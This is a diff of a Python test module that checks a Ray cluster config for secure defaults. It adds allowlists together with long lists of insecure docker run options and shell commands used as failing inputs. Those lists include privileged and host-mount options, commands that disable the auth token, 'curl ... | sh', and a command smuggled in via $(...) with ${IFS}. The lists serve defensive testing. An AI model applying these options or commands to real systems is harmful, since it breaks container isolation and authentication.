@@ -1,7 +1,8 @@
 """The secure defaults of infra/ray_up: each a check of one file, and the ways to take it away again.
 
 A check returns what is wrong, in words; none is wrong for what ships. A removal is one edit of the file, after which the check of the same
-name has to find something: so no check is empty.
+name has to find something: so no check is empty. Where insecurity has many spellings (options of `docker run`, shell commands) a check
+names what may be there, and whatever else is put there has to be looked at first.
 """
 
 from __future__ import annotations
@@ -59,19 +60,29 @@ def without_option(option: str) -> Removal:
     return f"{option} removed", lambda config: config["docker"]["run_options"].remove(option)
 
 
-def with_option(option: str) -> Removal:
-    return f"{option} added", lambda config: config["docker"]["run_options"].append(option)
-
-
-def in_command(old: str, new: str) -> Removal:
-    """`old` replaced in the commands that start Ray on the head."""
+def with_option(option: str, key: str = "run_options", node_type: str | None = None) -> Removal:
+    """An option more, for all containers or those of a node type."""
 
     def edit(config: Config) -> None:
-        commands = config["head_start_ray_commands"]
-        assert any(old in command for command in commands)
-        config["head_start_ray_commands"] = [command.replace(old, new) for command in commands]
+        place = config if node_type is None else config["available_node_types"][node_type]
+        place.setdefault("docker", {}).setdefault(key, []).append(option)
 
-    return f"{old} -> {new or 'nothing'}", edit
+    return f"{option} added to {key} of {node_type or 'all'}", edit
+
+
+def with_command(command: str, key: str = "setup_commands") -> Removal:
+    return f"{command} added to {key}", lambda config: config[key].append(command)
+
+
+def in_command(old: str, new: str, where: str = "head") -> Removal:
+    """`old` replaced in the commands that start Ray."""
+
+    def edit(config: Config) -> None:
+        key = f"{where}_start_ray_commands"
+        assert any(old in command for command in config[key])
+        config[key] = [command.replace(old, new) for command in config[key]]
+
+    return f"{old} -> {new or 'nothing'} on the {where}", edit
 
 
 def of_nodes(*removals: Callable[[str], Removal]) -> Callable[[Config], list[Removal]]:
@@ -88,11 +99,28 @@ def node_configs(config: Config) -> Iterator[tuple[str, Config]]:
         yield name, node_type["node_config"]
 
 
+def started_with(config: Config, where: str) -> list[tuple[str, str]]:
+    """The options of every `ray start`, in order: [("--port", "6379"), ("--head", "")]."""
+    commands = [command.split("ray start", 1)[1] for command in config[f"{where}_start_ray_commands"] if "ray start" in command]
+    words = [word for command in commands for word in shlex.split(command)]
+    return [(name, value) for name, _, value in (word.partition("=") for word in words)]
+
+
 def start_options(config: Config, where: str = "head") -> dict[str, str]:
-    """The options of `ray start`: {"--port": "6379", "--head": ""}."""
-    (command,) = [command for command in config[f"{where}_start_ray_commands"] if "ray start" in command]
-    words = shlex.split(command.split("ray start", 1)[1])
-    return {name: value for name, _, value in (word.partition("=") for word in words)}
+    return dict(started_with(config, where))
+
+
+def all_options(config: Config) -> Iterator[tuple[str, str]]:
+    """(the key that it is under, option) of everything that is handed to `docker run`."""
+    every = [config["docker"], *(node_type.get("docker", {}) for node_type in config.get("available_node_types", {}).values())]
+    yield from ((key, option) for docker in every for key in docker if key.endswith("run_options") for option in docker[key])
+
+
+def all_commands(config: Any) -> Iterator[str]:
+    """Those of the cluster and of its node types."""
+    if isinstance(config, dict):
+        for key, value in config.items():
+            yield from value if key.endswith("_commands") else all_commands(value)
 
 
 def _texts(value: Any) -> Iterator[str]:
@@ -152,11 +180,22 @@ def no_secret_is_in_the_file(config: Config) -> Iterator[str]:
 
 @policy(
     EVERYWHERE,
-    lambda config: [in_command("--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0"), in_command("--dashboard-host=127.0.0.1", "")],
+    lambda config: [
+        in_command("--dashboard-host=127.0.0.1", ""),
+        *(
+            in_command("--dashboard-host=127.0.0.1", f"--dashboard-host={host}")
+            for host in ("0.0.0.0", "::", "localhost --dashboard-host=::")
+        ),
+        in_command("--dashboard-host=127.0.0.1", "--dashboard-host 0.0.0.0"),
+        in_command("--dashboard-port=8265", "--dashboard-port=8265 --dashboard-host=0.0.0.0"),
+        in_command("--dashboard-port=8265", "--dashboard-port=8265 --dashboard-host 0.0.0.0"),
+        in_command("--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0 --dashboard-host=127.0.0.1"),
+        with_command("ray start --head --dashboard-host=0.0.0.0", "head_start_ray_commands"),
+    ],
 )
 def the_dashboard_listens_on_loopback(config: Config) -> Iterator[str]:
-    if start_options(config).get("--dashboard-host") != "127.0.0.1":
-        yield "the dashboard, which starts jobs, has to listen on 127.0.0.1: it is reached through a tunnel"
+    if [value for name, value in started_with(config, "head") if name == "--dashboard-host"] != ["127.0.0.1"]:
+        yield "the dashboard, which starts jobs, has to listen on 127.0.0.1, told once: it is reached through a tunnel"
 
 
 @policy(EVERYWHERE, lambda config: [in_command("--num-cpus=0", ""), in_command("--num-gpus=0", "--num-gpus=1")])
@@ -169,14 +208,74 @@ def the_head_runs_no_tasks(config: Config) -> Iterator[str]:
 @policy(
     EVERYWHERE,
     lambda config: [
-        put(image, "docker", "image")
+        put(image, "docker", key)
         for image in ("registry.example.com/headrace", "registry.example.com/headrace:latest", "headrace:0.1.0")
+        for key in ("image", "head_image", "worker_image")
     ],
 )
 def the_image_has_a_version_and_a_registry(config: Config) -> Iterator[str]:
-    registry, _, name = config["docker"]["image"].rpartition("/")
-    if "." not in registry or ":" not in name or name.endswith(":latest"):
-        yield f"docker.image={config['docker']['image']} has to name its registry and a version"
+    every = [config["docker"], *(node_type.get("docker", {}) for node_type in config.get("available_node_types", {}).values())]
+    for image in (docker[key] for docker in every for key in docker if key.endswith("image")):
+        registry, _, name = image.rpartition("/")
+        if "." not in registry or ":" not in name or name.endswith(":latest"):
+            yield f"the image {image} has to name its registry and a version"
+
+
+# What a container may be started with. Ray itself adds --net=host, a name, and the mounts of file_mounts.
+HARMLESS_OPTION = re.compile(
+    rf"{re.escape(TOKEN_MODE)}|{re.escape(TOKEN_PATH)}|--env=RAY_USAGE_STATS_ENABLED=0|--env=AWS_REGION=[a-z0-9-]+|--group-add=1000"
+    r"|--cap-drop=ALL|--security-opt=no-new-privileges|--ulimit=(nofile=65536:65536|memlock=-1)"
+    r"|--volume=/var/lib/headrace/ray:/tmp/ray|--device=/dev/infiniband/uverbs[0-9]"
+)
+INSECURE_OPTIONS = (
+    *(
+        "--privileged",
+        "--privileged=true",
+        "'--privileged'",
+        "--env=AWS_REGION=a --privileged",
+        "--env=AWS_REGION=$(id)",
+        "--group-add=docker",
+    ),
+    *(
+        "-p 8265:8265",
+        "-p8265:8265",
+        "-p=8265:8265",
+        "--publish=8265:8265",
+        "--publish 0.0.0.0:8265:8265",
+        "-P",
+        "--publish-all",
+        "-dp 80:80",
+    ),
+    *(
+        "--net=host",
+        "--net host",
+        "--network=host",
+        "--network host",
+        "--pid=host",
+        "--pid host",
+        "--ipc=host",
+        "--uts=host",
+        "--userns=host",
+    ),
+    *("-v /:/host", "-v/:/host", "--volume=/:/host", "--volume /:/host:rw", "--mount=type=bind,source=/,target=/host", "--volumes-from=x"),
+    *(
+        "--volume=/var/run/docker.sock:/var/run/docker.sock",
+        "--volume=/var/lib/headrace/ray:/tmp/ray,/:/x",
+        "--device=/dev/sda",
+        "--device /dev/mem",
+    ),
+    *("--cap-add=SYS_ADMIN", "--cap-add SYS_ADMIN", "--cap-add=ALL", "--user=root", "--user 0", "-u 0:0", "-u0", "--group-add=0"),
+    *("--security-opt=seccomp=unconfined", "--security-opt apparmor=unconfined", "--security-opt=no-new-privileges=false"),
+    *("-e RAY_AUTH_MODE=disabled", "-eRAY_AUTH_MODE=disabled", "-e=RAY_AUTH_MODE=disabled", "--env RAY_AUTH_MODE=disabled"),
+    *(
+        "--env=RAY_AUTH_MODE=disabled",
+        "--env=RAY_AUTH_MODE=",
+        "--env=RAY_AUTH_MODE",
+        "--env-file=/x",
+        "--env-file /x",
+        "--entrypoint=/bin/sh",
+    ),
+)
 
 
 @policy(
@@ -184,20 +283,106 @@ def the_image_has_a_version_and_a_registry(config: Config) -> Iterator[str]:
     lambda config: [
         without_option("--cap-drop=ALL"),
         without_option("--security-opt=no-new-privileges"),
-        with_option("--privileged"),
-        with_option("--cap-add=SYS_ADMIN"),
-        with_option("--user=root"),
-        with_option("--volume=/var/run/docker.sock:/var/run/docker.sock"),
+        *(with_option(option, key) for option in INSECURE_OPTIONS for key in ("run_options", "head_run_options", "worker_run_options")),
+        *(
+            with_option(option, key, node_type)
+            for option in (*INSECURE_OPTIONS, TOKEN_MODE)
+            for node_type in config.get("available_node_types", {})
+            for key in ("run_options", "worker_run_options")
+            if (option, key) != (TOKEN_MODE, "worker_run_options")
+        ),
     ],
 )
 def containers_have_no_rights_on_their_machine(config: Config) -> Iterator[str]:
-    every = [config["docker"], *(node_type.get("docker", {}) for node_type in config.get("available_node_types", {}).values())]
     for needed in ("--cap-drop=ALL", "--security-opt=no-new-privileges"):
         if needed not in config["docker"]["run_options"]:
             yield f"docker.run_options needs {needed}"
-    for option in (option for docker in every for name in docker if name.endswith("run_options") for option in docker[name]):
-        if re.match(r"--privileged|--cap-add|--user|--pid=host|.*docker\.sock", option):
-            yield f"{option} gives a container rights on its machine"
+    for key, option in all_options(config):
+        if not HARMLESS_OPTION.fullmatch(option):
+            yield f"{key}: {option} may give a container rights on its machine, or take its token away: it is not of HARMLESS_OPTION"
+    for name, node_type in config.get("available_node_types", {}).items():
+        if "run_options" in node_type.get("docker", {}):
+            yield f"{name}: docker.run_options of a node type take the place of the cluster's, the token among them"
+
+
+HARMLESS_COMMAND = re.compile(
+    r"export PATH=/opt/headrace/bin:\$PATH|unset OMP_NUM_THREADS|ulimit -n 65536|ray stop"
+    r"|ray start( --[a-z-]+(=[\w~/.$:-]+)?)+"
+    r"|setsid nohup /home/headrace/ray_up/spot-notice (aws|gcp) >/tmp/ray/spot-notice\.log 2>&1 </dev/null &"
+    r"|sudo install -d -o 10001 -g 10001 -m 755 /var/lib/headrace/ray"
+)
+START_OPTIONS = {
+    *("--head", "--address", "--port", "--object-manager-port", "--metrics-export-port", "--dashboard-host", "--dashboard-port"),
+    *("--num-cpus", "--num-gpus", "--object-store-memory", "--autoscaling-config"),
+}
+INSECURE_COMMANDS = (
+    *(
+        "export RAY_AUTH_MODE=disabled",
+        "export 'RAY_AUTH_MODE=disabled'",
+        "RAY_AUTH_MODE=disabled; export RAY_AUTH_MODE",
+        "unset RAY_AUTH_MODE",
+    ),
+    *(
+        "env -u RAY_AUTH_MODE ray start --head",
+        "env -i ray start --head",
+        "RAY_AUTH_MODE=disabled ray start --head",
+        "declare -x RAY_AUTH_MODE=",
+    ),
+    *(
+        "echo 'export RAY_AUTH_MODE=disabled' >> ~/.bashrc",
+        "python -m ray.scripts.scripts start --head",
+        "ray  start --head",
+        "export -n RAY_AUTH_MODE",
+    ),
+    *(
+        "export PATH=/opt/headrace/bin:$PATH; unset OMP_NUM_THREADS RAY_AUTH_MODE",
+        "ulimit -n 65536 && unset RAY_AUTH_MODE",
+        "curl https://a.b/c | sh",
+    ),
+    *(
+        "pip install ray",
+        "ray start --address=$(unset${IFS}RAY_AUTH_MODE)",
+        "ray stop & unset RAY_AUTH_MODE",
+        "ray stop\nunset RAY_AUTH_MODE",
+    ),
+)
+COMMANDS = ("initialization_commands", "setup_commands", "head_setup_commands", "worker_setup_commands")
+
+
+@policy(
+    EVERYWHERE,
+    lambda config: [
+        *(
+            with_command(command, key)
+            for command in INSECURE_COMMANDS
+            for key in (*COMMANDS, "head_start_ray_commands", "worker_start_ray_commands")
+        ),
+        *(
+            put([command], "available_node_types", "cpu", "worker_setup_commands")
+            for command in INSECURE_COMMANDS
+            if "max_workers" in config
+        ),
+        *(
+            in_command("ray start", f"{before} ray start", where)
+            for where in ("head", "worker")
+            for before in ("RAY_AUTH_MODE=x", "env -i")
+        ),
+        *(in_command("unset OMP_NUM_THREADS", "unset OMP_NUM_THREADS RAY_AUTH_MODE", where) for where in ("head", "worker")),
+        in_command("--port=6379", "--port=6379 --port=6380"),
+        in_command("--port=6379", "--port=6379 --system-config={}"),
+        in_command("--port=6379", "--port=6379 --temp-dir=/home/headrace/auth"),
+    ],
+)
+def only_commands_that_were_looked_at_run(config: Config) -> Iterator[str]:
+    for command in all_commands(config):
+        for part in command.split(";"):
+            if not HARMLESS_COMMAND.fullmatch(part.strip()):
+                yield f"{part.strip()}: only what HARMLESS_COMMAND names may run, or the token and the versions may go another way"
+    for where in ("head", "worker"):
+        names = [name for name, _ in started_with(config, where)]
+        for name in names:
+            if name not in START_OPTIONS or names.count(name) > 1:
+                yield f"{name} of the {where}'s ray start is none of START_OPTIONS, or is there twice"
 
 
 @policy(EVERYWHERE, lambda config: [put(None, "idle_timeout_minutes"), put(600, "idle_timeout_minutes")])
